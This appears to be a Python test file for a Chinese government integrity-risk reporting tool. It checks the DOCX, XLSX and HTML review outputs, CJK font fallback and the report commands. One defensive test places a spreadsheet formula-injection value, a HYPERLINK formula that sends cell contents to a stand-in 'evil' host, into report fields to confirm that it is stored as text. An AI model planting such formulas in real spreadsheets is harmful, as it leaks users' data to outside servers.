"""The annual review on the demo organisation: DOCX, XLSX and HTML carry the sections,
the figures of the canned queries, the Chinese text and a chart that renders it."""

from __future__ import annotations

import datetime as dt
import io
import warnings
import zipfile
from pathlib import Path

import openpyxl
import pytest
from docx import Document
from servers import cli

from lianfang.graph.falkor_store import EmbeddedFalkorStore
from lianfang.queries.runner import run
from lianfang.queries.spec import library
from lianfang.reports import chart, docx_report, html_report, review, xlsx_report
from lianfang.reports.chart import cjk_font, distribution_png, distribution_svg

AS_OF = dt.date(2026, 1, 31)
SECTIONS = [s for s in library().values() if s.id != "unit-risk-profile"]


@pytest.fixture(scope="module")
def built(demo_dir: Path) -> review.Review:
    with EmbeddedFalkorStore(demo_dir, "lianfang") as store:
        made = review.build(store, AS_OF)
        made.expected = {  # type: ignore[attr-defined]
            spec.id: run(store, spec.id, {"as_of": AS_OF}).ratio() for spec in SECTIONS
        }
    return made


def test_the_review_holds_every_query_in_severity_order(built: review.Review) -> None:
    order = [("high", "medium", "low").index(s.spec.severity) for s in built.sections]
    assert order == sorted(order) and len(built.sections) == len(SECTIONS)
    assert {s.spec.id: s.ratio for s in built.sections} == built.expected
    assert built.profile[0]["unit_id"] == "C01" and len(built.profile) == 15  # county + bureaus
    ungraded = int(built.expected["ungraded-risks"].split(" of ")[0])  # type: ignore[attr-defined]
    assert ungraded > 0  # the distribution is by level: ungraded risks are listed apart
    assert (
        sum(sum(levels.values()) for levels in built.distribution.values()) + ungraded
        == built.headline["risks"]
    )


def test_docx_has_the_sections_figures_chart_and_chinese(built: review.Review) -> None:
    document = Document(io.BytesIO(docx_report.write_docx(built)))
    text = "\n".join(p.text for p in document.paragraphs)
    headings = [p.text for p in document.paragraphs if p.style.name.startswith("Heading")]
    assert {"一、单位廉政风险概况", "二、风险点分布", "三、发现的问题及整改建议"} <= set(headings)
    for section in built.sections:
        assert any(
            h.startswith(section.spec.title_zh) and h.endswith(built.expected[section.spec.id])
            for h in headings
        ), section.spec.id
        assert section.spec.remedy in text
    assert review.summary_sentence(built) in text and "排查廉政风险点" in text
    assert len(document.inline_shapes) == 1  # the chart
    profile = document.tables[0]
    assert profile.rows[1].cells[1].text == "青山县人民政府"
    east_asian = document.styles["Normal"].element.rPr.rFonts.get(
        "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}eastAsia"
    )
    assert east_asian == docx_report.EAST_ASIAN_FONT


def test_xlsx_has_a_sheet_per_section_with_frozen_filtered_headers(built: review.Review) -> None:
    book = openpyxl.load_workbook(io.BytesIO(xlsx_report.write_xlsx(built)))
    assert book.sheetnames[:3] == ["封面", "单位概况", "风险分布"]
    assert len(book.sheetnames) == 3 + len(SECTIONS) + len(built.loop)
    assert book.sheetnames[-4:] == ["考核得分", "分级预警", "整改台账", "暂缓处理"]
    assert "排查廉政风险点" in book["封面"]["B6"].value
    for section in built.sections:
        sheet = book[section.spec.title_zh[:28]]
        assert built.expected[section.spec.id] in sheet["A3"].value
        header_row = sheet.freeze_panes and int(sheet.freeze_panes[1:]) - 1
        assert [c.value for c in sheet[header_row]][:2] == [c.name for c in section.spec.columns][
            :2
        ]
        assert sheet.auto_filter.ref.startswith(f"A{header_row}:")
        assert sheet.max_row - header_row == len(section.rows)
    profile = book["单位概况"]
    assert profile.freeze_panes == "A2" and profile["B2"].value == "青山县人民政府"


def test_xlsx_draws_its_chart_natively(built: review.Review) -> None:
    """A chart Excel draws itself: a stacked bar chart over the distribution table."""
    with zipfile.ZipFile(io.BytesIO(xlsx_report.write_xlsx(built))) as archive:
        charts = [n for n in archive.namelist() if n.startswith("xl/charts/chart")]
        assert len(charts) == 1
        xml = archive.read(charts[0]).decode("utf-8")
    assert "<barChart>" in xml and '<grouping val="stacked"/>' in xml
    rows = len(built.distribution) + 1  # the six categories, and the demo's unclassified
    assert "未分类" in built.distribution and rows == 8
    assert f"'风险分布'!$A$2:$A${rows}" in xml
    for level_column in "BCD":  # high, medium, low
        assert f"'风险分布'!${level_column}$2:${level_column}${rows}" in xml


def test_html_has_every_section_and_the_chart(built: review.Review) -> None:
    html = html_report.render_html(built)
    assert 'id="chart"' in html and "<svg" in html and "data:image/png" not in html
    assert "三重一大" in html.split('id="chart"')[1].split("</svg>")[0]
    for section in built.sections:
        assert f'id="section-{section.spec.id}"' in html
    assert "http://" not in html and "https://" not in html


def test_the_chart_draws_chinese_with_a_cjk_font() -> None:
    assert "CJK" in cjk_font().name or cjk_font().exists()
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        png = distribution_png({"岗位职责": {"high": 2, "medium": 1, "low": 0}}, "廉政风险点分布")
    assert png.startswith(b"\x89PNG")
    missing = [str(w.message) for w in caught if "missing from" in str(w.message)]
    assert missing == []  # a box would have been drawn for each


def test_report_for_one_unit_keeps_its_findings(demo_dir: Path) -> None:
    with EmbeddedFalkorStore(demo_dir, "lianfang") as store:
        scoped = review.build(store, AS_OF, unit="C01B02")
    assert scoped.profile[0]["unit_id"] == "C01B02"
    assert scoped.headline["risks"] == scoped.profile[0]["risks"]
    for section in scoped.sections:
        for row in section.rows:
            named = " ".join(str(v) for v in row.values())
            assert "C01B02" in named, (section.spec.id, row)


def test_report_command(demo_dir: Path, tmp_path: Path) -> None:
    for suffix in ("docx", "xlsx", "html"):
        out = tmp_path / f"review.{suffix}"
        result = cli(demo_dir, "report", "--as-of", "2026-01-31", "-o", str(out))
        assert result.returncode == 0, result.stderr
        assert out.stat().st_size > 10_000 and "排查廉政风险点" in result.stdout
    wrong = cli(demo_dir, "report", "-o", str(tmp_path / "review.pdf"))
    assert wrong.returncode == 2 and "--format" in wrong.stderr
    missing = cli(demo_dir, "report", "-o", str(tmp_path / "r.html"), "--unit", "NOPE")
    assert missing.returncode == 1 and "no unit 'NOPE'" in missing.stderr


def test_the_svg_chart_escapes_and_scales() -> None:
    svg = distribution_svg({"岗位职责": {"high": 4, "medium": 2, "low": 0}}, "<b>分布</b>")
    assert "<b>" not in svg and "&lt;b&gt;分布&lt;/b&gt;" in svg
    assert svg.count("<rect") == 2 + 3  # two bars, three legend keys
    assert ">6</text>" in svg  # the stack's total


@pytest.fixture
def no_cjk_font(monkeypatch: pytest.MonkeyPatch):
    """The process sees no font at all, as on a machine without fonts-noto-cjk."""
    from matplotlib import font_manager

    monkeypatch.setattr(font_manager, "findSystemFonts", lambda *a, **k: [])
    chart.cjk_font.cache_clear()
    yield
    chart.cjk_font.cache_clear()


def test_every_review_format_is_written_without_a_cjk_font(
    no_cjk_font, demo_dir: Path, tmp_path: Path
) -> None:
    from typer.testing import CliRunner

    from lianfang.cli.app import app

    with pytest.raises(chart.FontMissing):
        cjk_font()
    runner = CliRunner()
    for suffix in ("docx", "xlsx", "html"):
        out = tmp_path / f"r.{suffix}"
        args = ["--data-dir", str(demo_dir), "report", "--as-of", "2026-01-31", "-o", str(out)]
        result = runner.invoke(app, args)
        assert result.exit_code == 0, result.output
        assert out.stat().st_size > 10_000
        assert ("no CJK font" in result.output) is (suffix == "docx")
    document = Document(str(tmp_path / "r.docx"))
    assert len(document.inline_shapes) == 0  # no chart, and the table in its place
    assert any("缺少中文字体" in p.text for p in document.paragraphs)
    assert any(t.rows[0].cells[0].text == "类别" for t in document.tables)


def test_the_page_downloads_the_review_without_a_cjk_font(no_cjk_font, demo_dir: Path) -> None:
    from fastapi.testclient import TestClient
    from web import LOCAL

    from lianfang.api.main import create_app

    with (
        EmbeddedFalkorStore(demo_dir, "lianfang") as store,
        TestClient(create_app(store=store), base_url=LOCAL) as client,
    ):
        for fmt in ("docx", "xlsx", "html"):
            response = client.get(f"/api/reports/review.{fmt}", params={"as_of": "2026-01-31"})
            assert response.status_code == 200, (fmt, response.text[:200])
            assert len(response.content) > 10_000


def test_no_xlsx_the_product_writes_holds_a_formula(tmp_path: Path) -> None:
    """Register text and user input that look like formulas stay text in every workbook:
    the review (its cover too), the disclosure, a query export and the template."""
    from web import FORMULA, hostile_store

    from lianfang.ingest.template import write_template
    from lianfang.queries.exports import to_xlsx
    from lianfang.reports import disclosure

    leak = '=HYPERLINK("http://evil/leak?d="&A1,"点击")'
    with hostile_store(tmp_path / "data", tmp_path) as store:
        built = review.build(store, AS_OF)
        rows = disclosure.disclosure_rows(store)
        exported = run(store, "unmitigated-high-risks", {"as_of": AS_OF}).rows
    built.organisation, built.scope = leak, "+1+1"
    assert any(FORMULA in r["risk"] for r in rows)
    books = {
        "review": xlsx_report.write_xlsx(built),
        "disclosure": disclosure.write_xlsx(rows, leak),
        "query": to_xlsx(exported, list(exported[0]), "q"),
        "template": write_template(tmp_path / "t.xlsx").read_bytes(),
    }
    for name, data in books.items():
        book = openpyxl.load_workbook(io.BytesIO(data))
        formulas = [
            (sheet.title, cell.coordinate)
            for sheet in book.worksheets
            for line in sheet.iter_rows()
            for cell in line
            if cell.data_type == "f" or str(cell.value or "").startswith(("=", "+", "@", "-"))
        ]
        assert formulas == [], name
